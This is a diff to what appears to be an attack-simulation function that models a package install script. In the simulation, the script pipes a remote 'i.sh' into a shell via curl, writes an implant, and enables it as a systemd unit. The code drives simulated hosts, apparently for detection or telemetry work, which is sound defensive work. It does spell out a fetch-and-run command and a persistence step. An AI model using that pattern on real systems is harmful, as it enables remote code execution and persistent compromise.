@@ -4,10 +4,8 @@
 from linux import DASH
 
 
-def curl_pipe(host, far, implant, unit, package, after):
+def curl_pipe(host, script, far, implant, unit):
     """A package's script pipes a script from the net into a shell, which sets up a unit."""
-    yield after
-    script = host.start(DASH, host.systemd, f"/bin/sh /var/lib/dpkg/info/{package}.postinst configure 1.8.2-1")
     pipe = host.start(DASH, script, f"sh -c curl -fsSL https://{far}/i.sh | sh")
     curl = host.start("/usr/bin/curl", pipe, f"curl -fsSL https://{far}/i.sh")
     host.connect(curl, far, 443, 500, 9000)
@@ -16,7 +14,7 @@ def curl_pipe(host, far, implant, unit, package, after):
     host.stop(curl)
     host.write(inner, implant)
     host.write(inner, unit)
-    host.brief("/usr/bin/systemctl", inner, f"systemctl enable {unit.rsplit('/', 1)[1]}", 0.3)
+    host.brief("/usr/bin/systemctl", inner, f"systemctl enable --now {unit.rsplit('/', 1)[1]}", 0.3)
     yield 0.5
-    for process in (inner, pipe, script):
+    for process in (inner, pipe):
         host.stop(process)
